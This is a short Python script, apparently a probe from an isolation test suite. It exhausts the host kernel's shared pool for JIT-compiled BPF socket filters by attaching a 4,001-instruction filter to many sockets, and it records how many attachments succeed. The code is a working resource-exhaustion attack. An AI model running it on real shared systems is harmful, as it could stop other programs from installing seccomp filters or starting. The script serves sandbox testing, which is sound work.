"""Has filters of packets compiled into the kernel: their machine code comes from a stock of the host's, and is on nobody's account.

From: with it empty, no program of the host could install a system call filter any more, and no other execution begin.
"""

import ctypes
import socket
import struct

from evidence import attempt, done, say, syscall

SOL_SOCKET, LARGEST = 1, 4000
OPTIONS = {"filter": 26, "program": 50, "filter of a group": 51, "program of a group": 52}
# compare with a wide constant, again and again; at last accept
words = [(0x15, 0, 0, 0x12345678 + number) for number in range(LARGEST)] + [(0x06, 0, 0, 0xFFFF)]
code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *word) for word in words))
described = struct.pack("HxxxxxxQ", len(words), ctypes.addressof(code))
attached = 0
kept = []
for name, option in OPTIONS.items():
    for level in (SOL_SOCKET, SOL_SOCKET | 1 << 32):
        for _ in range(50):
            one = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            kept.append(one)
            try:
                syscall("setsockopt", one.fileno(), level, option, described, len(described))
                attached += 1
            except OSError:
                break
        attempt(f"{name}, {level:#x}", syscall, "setsockopt", kept[-1].fileno(), level, option, described, len(described))
say(attached=attached)
done()
